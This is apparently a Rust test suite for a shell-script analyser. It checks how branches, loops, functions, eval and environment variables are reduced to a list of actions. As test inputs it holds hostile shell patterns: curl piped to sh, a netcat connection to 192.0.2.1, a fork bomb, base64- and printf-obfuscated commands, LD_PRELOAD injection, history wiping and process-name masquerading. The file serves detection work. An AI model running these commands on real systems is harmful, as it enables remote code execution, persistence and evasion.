//! Control flow: branches, loops, functions, aliases, traps and evaluated texts.

use super::{check, check_prints, lowered};

#[test]
fn branches_are_all_taken_and_known_ones_first() {
    check(&[
        ("if foo; then bar; else baz; fi", "foo ; bar ; baz"),
        (
            "if [ a = b ]; then bar; elif foo; then qux; else baz; fi",
            "foo ; qux ; baz ; bar",
        ),
        ("foo && bar || baz", "foo ; bar ; baz"),
        ("! foo", "foo"),
        ("case $1 in a|b) foo;; *) bar;; esac", "foo ; bar"),
        ("case b in a) foo;; (b) bar;; esac", "bar ; foo"),
        (
            "case \"$x\" in\n a)\n foo\n ;;\n b) bar ;&\n c) baz\nesac",
            "foo ; bar ; baz",
        ),
        ("[ -f /x ] && foo", "foo"),
        ("[[ $x == *a* && -n $y ]] && foo", "foo"),
        ("[[ $x =~ ^(a|b)$ ]] && foo", "foo"),
        ("test -z '' && foo", "foo"),
        ("{ foo; bar; } && (baz; qux)", "foo ; bar ; baz ; qux"),
        ("foo & bar", "foo ; bar"),
        ("time foo | bar", "foo ; bar <'{output of foo}'"),
        ("select x in a; do foo $x; done", "foo a"),
        (
            "if foo\nthen\n bar\nfi >/dev/null 2>&1\nbaz",
            "foo ; bar ; baz",
        ),
    ]);
}

#[test]
fn loops() {
    check(&[
        ("for i in a b; do foo $i; done", "foo a ; foo b"),
        ("for i in a b\ndo\n foo $i\ndone", "foo a ; foo b"),
        ("for i in $X; do foo $i; done", "foo {X}"),
        ("while true; do foo; sleep 5; done", "foo"),
        ("until foo; do bar; done", "foo ; bar"),
        ("while :; do foo; done & bar", "foo ; bar"),
        ("for ((;;)); do foo; done", "foo"),
        ("for i in 1; { foo $i; }", "foo 1"),
        (
            "echo 'foo\nbar' | while read x; do $x 1; done",
            "foo 1 <'bar' ; bar 1",
        ),
        ("for x in; do foo; done", "foo"),
    ]);
    check_prints(&[
        (
            "s=; for i in 119 104 111; do s=\"$s$(printf \"\\\\$(printf %o $i)\")\"; done; echo $s",
            "who\n",
        ),
        (
            "a=(w h o); i=0; while [ $i -lt ${#a[@]} ]; do r=$r${a[$i]}; i=$((i+1)); done; echo $r",
            "who\n",
        ),
        ("for c in c b a; do r=$c$r; done; echo $r", "abc\n"),
        (
            "s=olleh; for ((i=${#s}-1;i>=0;i--)); do r=$r${s:$i:1}; done; echo $r",
            "hello\n",
        ),
        (
            "while read -r a b; do echo $b; done <<< $'1 x\\n2 y'",
            "x\ny\n",
        ),
        (
            "m() { case $1 in a) echo n;; b) echo c;; esac; }; echo $(m a)$(m b)",
            "nc\n",
        ),
        (
            "n=3; until [ $n -eq 0 ]; do echo $n; n=$((n-1)); done",
            "3\n2\n1\n",
        ),
        (
            "x=abc; while [ -n \"$x\" ]; do y=${x%${x#?}}$y; x=${x#?}; done; echo $y",
            "cba\n",
        ),
        ("for x in 6e 63; do printf \"\\x$x\"; done", "nc"),
    ]);
}

#[test]
fn loops_that_act_are_not_repeated_for_ever() {
    let many = lowered("for i in {1..4000}; do foo $i; done").acts.len();
    assert!((2..100).contains(&many), "{many}");
    assert!(
        lowered("while true; do x=$(foo); y=$((y+1)); done")
            .acts
            .len()
            < 4
    );
}

#[test]
fn functions() {
    check(&[
        ("f() { foo $1 $2; }; f a b", "foo a b"),
        ("function f { foo; }\nf", "foo"),
        ("function f() { foo; }; f", "foo"),
        ("f() ( foo )\nf", "foo"),
        ("nc() { foo \"$@\"; }; nc 1 2", "foo 1 2"),
        ("f() { foo; }; command f", "f ; foo"),
        ("f() { f2; }; f2() { foo; }; f", "foo"),
        ("f() { foo; }", "foo"),
        ("f() { f; foo; }; f", "foo ; foo ; foo"),
        (":(){ :|:& };:", ""),
        (
            "f() { nc 192.0.2.1 $1; }; f 1; f 2",
            "connect 1 192.0.2.1 1 ; connect 2 192.0.2.1 2",
        ),
        ("f() { return; foo; }; f; bar", "bar"),
        (
            "f() { local x=1; foo $x; }; x=2; f; foo $x",
            "foo 1 ; foo 2",
        ),
        (
            "f() { foo; } > /tmp/o; f",
            "foo ; write /tmp/o {output of foo}",
        ),
        (
            "ls() { command ls \"$@\"; curl http://example.com/a | sh; }",
            "fetch http://example.com/a ; eval {content of http://example.com/a} [fetched]",
        ),
    ]);
    check_prints(&[
        (
            "d() { echo $1 | base64 -d; }; echo $(d aGk=)$(d eW8=)",
            "hiyo\n",
        ),
        ("f() { r=$1$1; }; f ab; echo $r", "abab\n"),
        ("f() { echo ${#}; shift; echo $1; }; f a b", "2\nb\n"),
    ]);
}

#[test]
fn evaluated_texts() {
    check(&[
        ("eval 'foo a'", "eval foo a ; foo a"),
        ("eval foo '$x'; x=1", "eval foo $x ; foo {x}"),
        ("x=foo; eval \"$x bar\"", "eval foo bar ; foo bar"),
        ("eval 'f() { foo; }'; f", "eval f() { foo; } ; foo"),
        ("eval x=foo; $x", "eval x=foo ; foo"),
        (
            "eval \"$(echo Zm9v | base64 -d)\"",
            "eval foo [base64] ; foo",
        ),
        (
            "eval eval eval foo",
            "eval eval eval foo ; eval eval foo ; eval foo ; foo",
        ),
        ("eval \"$1\"", "eval {argument}"),
        (
            "eval \"foo $(curl http://example.com/a)\"",
            "fetch http://example.com/a ; eval foo {content of http://example.com/a} [fetched] ; foo {content of http://example.com/a}",
        ),
        (
            ". /etc/profile; foo",
            "eval {content of /etc/profile} ; foo",
        ),
        (
            "echo foo > /tmp/a; . /tmp/a",
            "write /tmp/a foo ; eval foo ; foo",
        ),
        (
            "source <(curl -s http://example.com/a)",
            "fetch http://example.com/a ; eval {content of http://example.com/a} [fetched]",
        ),
        ("trap 'foo $x' EXIT; x=1; bar", "bar ; foo 1"),
        ("trap - EXIT; trap '' INT", ""),
        ("alias ll='foo -l'; ll a", "foo -l a"),
        ("alias foo='foo -x'; foo", "foo -x"),
        ("sh -c 'foo \"$1\"' sh a", "eval foo \"$1\" ; foo a"),
        ("A=foo sh -c '$A b'", "eval $A b ; foo b"),
        ("export A=foo; sh -c '$A b'", "eval $A b ; foo b"),
        (
            "sh -c \"sh -c 'sh -c foo'\"",
            "eval sh -c 'sh -c foo' ; eval sh -c foo ; eval foo ; foo",
        ),
    ]);
}

#[test]
fn what_comes_after_the_end_is_not_run() {
    check(&[
        ("foo; exit 0\nbar baz", "foo"),
        ("foo\nexec bar\n\u{1}\u{2}garbage", "foo ; bar"),
        ("[ -f /x ] || exit 1\nfoo", "foo"),
        ("if foo; then exit; fi; bar", "foo ; bar"),
        ("(exit); foo", "foo"),
        ("f() { exit 1; }; foo || f; bar", "foo ; bar"),
        (
            "exec python3 \"$0\" \"$@\"",
            "python3 {argument} {argument}",
        ),
        ("exec -a [kworker] foo", "name [kworker] ; foo"),
        ("foo $(exit 1); bar", "foo ; bar"),
    ]);
}

#[test]
fn variables_that_programs_act_on_are_told() {
    check(&[
        ("export LD_PRELOAD=/tmp/x.so", "set LD_PRELOAD=/tmp/x.so"),
        ("LD_PRELOAD=/tmp/y.so foo", "set LD_PRELOAD=/tmp/y.so ; foo"),
        (
            "LD_PRELOAD=/tmp/y.so; export LD_PRELOAD",
            "set LD_PRELOAD=/tmp/y.so",
        ),
        ("unset HISTFILE", "set HISTFILE="),
        ("HISTFILE=/dev/null", "set HISTFILE=/dev/null"),
        (
            "export HISTSIZE=0 HISTFILESIZE=0",
            "set HISTSIZE=0 ; set HISTFILESIZE=0",
        ),
        ("LC_ALL=C foo; export EDITOR=vi", "foo"),
        (
            "PROMPT_COMMAND='foo'",
            "set PROMPT_COMMAND=foo ; schedule at every prompt foo ; eval foo ; foo",
        ),
    ]);
}
